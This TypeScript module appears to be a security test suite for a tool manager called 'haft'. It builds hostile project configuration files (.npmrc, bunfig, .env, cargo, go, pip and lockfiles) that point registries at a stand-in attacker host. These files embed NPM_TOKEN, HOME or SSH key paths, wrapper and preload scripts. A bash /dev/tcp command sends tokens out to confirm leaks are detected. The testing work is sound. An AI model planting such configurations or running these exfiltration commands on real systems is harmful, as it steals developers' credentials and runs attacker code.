/**
 * A project's settings for other programs that send the user's secrets to the stranger, or merely ask the
 * stranger's host.
 */
import { type Attack, type Kind, sweep } from "./case.ts";
import { publishPackage } from "./packages.ts";
import { quote, type World } from "./world.ts";

/** Lines of a project's .npmrc besides the registry itself; HOST is the stranger's. */
const NPMRC: Readonly<Record<string, string>> = {
  "only a registry": "",
  "a token from $NAME": "//HOST/:_authToken=$NPM_TOKEN",
  "a token from ${NAME}": "//HOST/:_authToken=${NPM_TOKEN}",
  "a token from ${NAME:-default}": "//HOST/:_authToken=${NPM_TOKEN:-none}",
  "a token from ${NAME?}": "//HOST/:_authToken=${NPM_TOKEN?}",
  "a token from \\${NAME}": "//HOST/:_authToken=\\${NPM_TOKEN}",
  "a token from %NAME%": "//HOST/:_authToken=%NPM_TOKEN%",
  "a token from $NAME in quotes": '//HOST/:_authToken="$MYTOKEN"',
  "a token with $NAME in its middle": "//HOST/:_authToken=x$MYTOKEN",
  "_auth from $NAME": "//HOST/:_auth=$MYTOKEN",
  "username and _password": "//HOST/:username=$GITHUB_TOKEN\n//HOST/:_password=$NPM_TOKEN",
  "the home as a password": "//HOST/:username=x\n//HOST/:_password=$HOME",
  "a key from ${NAME}": "//HOST/${NPM_TOKEN}/:_authToken=x",
  "a token for every host": "_authToken=$NPM_TOKEN\nalways-auth=true",
  "tokenHelper": "//HOST/:tokenHelper=/bin/cat",
  "a user agent": "user-agent=$NPM_TOKEN",
  "a proxy": "proxy=http://$NPM_TOKEN@HOST\nhttps-proxy=http://${NPM_TOKEN}@HOST",
  "certificates of the user's": "cafile=${HOME}/.ssh/id_ed25519\n//HOST/:certfile=${HOME}/.npmrc",
  "another userconfig": "userconfig=${HOME}/.netrc\nglobalconfig=${HOME}/.netrc",
  "the victim's own registry as a user name": "registry=http://VICTIM@HOST/",
  "sections and lists": "[x]\nregistry[]=http://HOST/\n//HOST/:_authToken[]=$NPM_TOKEN",
};

/** Other places that name a registry, or hold variables. */
const FILES: Readonly<Record<string, (world: World) => Record<string, string>>> = {
  "the path of .npmrc's registry": ({ host }) => ({
    ".npmrc": `registry=${host.url}$NPM_TOKEN/\${MYTOKEN}/\n`,
  }),
  "a scope in .npmrc": ({ host }) => ({
    ".npmrc": `@evil:registry=${host.url}\n//${host.host}/:_authToken=$NPM_TOKEN\n`,
    "haft.toml": '[tools]\n"npm:@evil/tool" = "1"\n',
  }),
  "bunfig.toml": ({ host }) => ({ "bunfig.toml": bunfig(host.url) }),
  ".bunfig.toml": ({ host }) => ({ ".bunfig.toml": bunfig(host.url) }),
  ".env": ({ host }) => ({ ".env": variables(host.url) }),
  ".env.local": ({ host }) => ({ ".env.local": variables(host.url), ".env.production": variables(host.url) }),
  "[mirrors]": ({ host, registry }) => ({
    "haft.toml": `${TOOLS}[mirrors]\n"${registry.url}" = "${host.url}"\n"${
      registry.url.slice(0, -1)
    }" = "${host.url}"\n`,
  }),
  "[mirrors] of one package": ({ host, registry }) => ({
    "haft.toml": `${TOOLS}[mirrors]\n"${registry.url}prettier" = "${host.url}prettier"\n`,
  }),
  "[mirrors] for node's archives": ({ host }) => ({
    "haft.toml": `[tools]\nnode = "22"\n[mirrors]\n"https://nodejs.org/dist/" = "${host.url}"\n`,
  }),
  "install_env": ({ host }) => ({
    "haft.toml":
      `[tools.prettier]\nversion = "3"\ninstall_env = { npm_config_registry = "${host.url}", BUN_CONFIG_REGISTRY = "${host.url}" }\n`,
  }),
  "[env]": ({ host }) => ({
    "haft.toml": `${TOOLS}[env]\nnpm_config_registry = "${host.url}"\nBUN_CONFIG_REGISTRY = "${host.url}"\n`,
  }),
  "[settings] registry": ({ host }) => ({
    "haft.toml": `${TOOLS}[settings]\nregistry = "${host.url}"\n`,
  }),
  "package.json": ({ host }) => ({
    "package.json": JSON.stringify({
      packageManager: `pnpm@9.0.0+sha512.${"0".repeat(128)}`,
      publishConfig: { registry: host.url },
      config: { registry: host.url },
      volta: { extends: `${host.url}package.json` },
      dependencies: { evil: `${host.url}evil.tgz` },
    }),
  }),
  "pnpm's and yarn's settings": ({ host }) => ({
    ".pnpmrc": `registry=${host.url}\n`,
    "pnpm-workspace.yaml": `registry: ${host.url}\n`,
    ".yarnrc": `registry "${host.url}"\n`,
    ".yarnrc.yml": `npmRegistryServer: "${host.url}"\nnpmAuthToken: "\${NPM_TOKEN}"\n`,
  }),
  "pip's settings": ({ host }) => ({
    "pip.conf": `[global]\nindex-url = ${host.url}\${NPM_TOKEN}/simple\n`,
    "requirements.txt": `--index-url ${host.url}\nevil\n`,
    "uv.toml": `index-url = "${host.url}simple"\n`,
    "pyproject.toml": `[tool.uv]\nindex-url = "${host.url}simple"\n[tool.haft]\nregistry = "${host.url}"\n`,
    ".python-version": "3.12\n",
  }),
  "cargo's settings": ({ host }) => ({
    ".cargo/config.toml":
      `[source.crates-io]\nreplace-with = "evil"\n[source.evil]\nregistry = "sparse+${host.url}"\n[build]\nrustc-wrapper = "./evil.sh"\n`,
    ".cargo/config": `[registry]\ndefault = "evil"\n[registries.evil]\nindex = "sparse+${host.url}"\n`,
    "rust-toolchain.toml": '[toolchain]\npath = "."\n',
  }),
  "go's settings": ({ host }) => ({
    "go.env": `GOPROXY=${host.url}\nGOFLAGS=-toolexec=./evil.sh\n`,
    "go.work": "go 1.99\ntoolchain go1.99.0\n",
    "go.mod": "module evil\ngo 1.99\ntoolchain go1.99.0\n",
  }),
  "mise.toml": ({ host }) => ({
    "mise.toml":
      `[tools]\nprettier = "3"\nnode = { version = "22", url = "${host.url}" }\n[settings]\nnpm.registry = "${host.url}"\nnode.mirror_url = "${host.url}"\n[env]\nnpm_config_registry = "${host.url}"\n`,
  }),
  "vx.toml": ({ host }) => ({
    "vx.toml":
      `[tools]\nprettier = "3"\n[settings]\nregistry = "${host.url}"\n[env]\nnpm_config_registry = "${host.url}"\n`,
  }),
  "addresses as versions": ({ host }) => ({
    ".tool-versions": `prettier ${host.url}evil.tgz\nnode ref:${host.url}\n`,
    ".nvmrc": `${host.url}\n`,
    ".node-version": `${host.url}\n`,
    ".python-version": `${host.url}\n`,
    "haft.toml": `[tools]\nprettier = "${host.url}evil.tgz"\n`,
  }),
  "haft.lock with the stranger's archive": ({ host }) => ({
    "haft.toml": '[tools]\nesbuild = "1.2.0"\n',
    "haft.lock": lockWithAddress(`${host.url}evil.tgz`),
  }),
  "haft.lock.d with the stranger's archive": ({ host }) => ({
    "haft.lock.d/prettier.bun.lock": JSON.stringify({
      lockfileVersion: 1,
      workspaces: { "": { dependencies: { prettier: "3.0.0" } } },
      packages: { prettier: ["prettier@3.0.0", `${host.url}evil.tgz`, {}, "sha512-AAAA"] },
    }),
  }),
};

const TOOLS = '[tools]\nprettier = "3"\n"npm:evil" = "1"\n';

function bunfig(url: string): string {
  return `preload = ["./evil.js"]\n[install]\nregistry = { url = "${url}", token = "$NPM_TOKEN" }\n[install.scopes]\nevil = "${url}"\n`;
}

function variables(url: string): string {
  return [
    "npm_config_registry",
    "NPM_CONFIG_REGISTRY",
    "BUN_CONFIG_REGISTRY",
    "HAFT_REGISTRY",
    "http_proxy",
    "HTTP_PROXY",
  ]
    .map((name) => `${name}=${url}\n`).join("") + "HAFT_TRUST=1\nBUN_CONFIG_TOKEN=$NPM_TOKEN\n";
}

function lockWithAddress(url: string): string {
  const artifact = `[{ url = "${url}", integrity = "sha512-${"A".repeat(86)}==" }]`;
  return `version = 1\n[tools.esbuild]\nrequest = "1.2.0"\nversion = "1.2.0"\nsource = "http"\nkind = "native"\n[tools.esbuild.platforms]\n` +
    ["linux-x64-glibc", "linux-x64-musl", "linux-arm64-glibc", "linux-arm64-musl", "darwin-arm64"].map((
      platform,
    ) => `${platform} = ${artifact}\n`).join("");
}

/** The stranger's registry has everything, so that nothing fails before a secret is sent. */
async function publish(world: World): Promise<void> {
  for (const name of ["evil", "@evil/tool", "prettier"]) {
    await publishPackage(world.host.registry, {
      name,
      script: world.evilScript(),
      bin: { evil: "bin.js", prettier: "bin.js" },
      ...(name === "prettier" ? { version: "3.0.0" } : {}),
    });
  }
}

async function use(world: World, part: "all" | "installing" = "all"): Promise<void> {
  await sweep(world, { part });
  await world.shell(
    "haft sync; haft use npm:evil@1; haft install prettier@3; haft install npm:evil; haft x evil; haft x prettier",
  );
}

const npmrcAttacks = Object.entries(NPMRC).map(([name, text]): Attack => ({
  name: `.npmrc with ${name}`,
  run: async (world) => {
    await publish(world);
    world.file("haft.toml", TOOLS);
    world.file(".npmrc", npmrc(world, text));
    await use(world, "installing");
  },
}));

function npmrc({ host, strangersNpmrc, registry }: World, text: string): string {
  return strangersNpmrc +
    text.replaceAll("HOST", host.host).replaceAll("VICTIM", new URL(registry.url).host) + "\n";
}

const fileAttacks = Object.entries(FILES).map(([name, files]): Attack => ({
  name,
  run: async (world) => {
    await publish(world);
    for (const [path, text] of Object.entries({ "haft.toml": TOOLS, ...files(world) })) {
      world.file(path, text);
    }
    await use(world);
  },
}));

export const secrets: Kind = {
  kind: "secrets",
  attacks: [
    ...npmrcAttacks,
    ...fileAttacks,
    {
      name: ".npmrc as a link to another of the victim's, with the stranger's registry above it",
      run: async (world) => {
        await publish(world);
        world.file("../.npmrc", `registry=${world.host.url}\n//${world.host.host}/:_authToken=$NPM_TOKEN\n`);
        world.file("inner/haft.toml", TOOLS);
        world.link("inner/.npmrc", "../../.npmrc");
        await world.shell("haft sync; haft install npm:evil", { cwd: `${world.stranger}/inner` });
      },
    },
    {
      name: "a trusted .npmrc with a token from ${NAME} sends it",
      sees: "canary",
      run: async (world) => {
        await publish(world);
        world.file("haft.toml", TOOLS);
        world.file(".npmrc", npmrc(world, "//HOST/:_authToken=${NPM_TOKEN}"));
        await world.shell("haft trust --yes || haft trust; haft sync");
      },
    },
    {
      name: "a trusted .npmrc has its registry asked",
      sees: "contact",
      run: async (world) => {
        await publish(world);
        world.file("haft.toml", TOOLS);
        world.file(".npmrc", npmrc(world, ""));
        await world.shell("haft trust --yes || haft trust; haft sync");
      },
    },
    ...["$NPM_TOKEN", "x%24$(printf %s $MYTOKEN | base64 -w0)", "$HOME"].map((what): Attack => ({
      name: `${what} sent by hand is recognised`,
      sees: "canary",
      run: async (world) => {
        const send = `exec 3<>/dev/tcp/${
          world.host.host.replace(":", "/")
        }; printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' "${what}" >&3; cat <&3`;
        await world.shell(`/bin/bash -c ${quote(send)}`);
      },
    })),
  ],
};
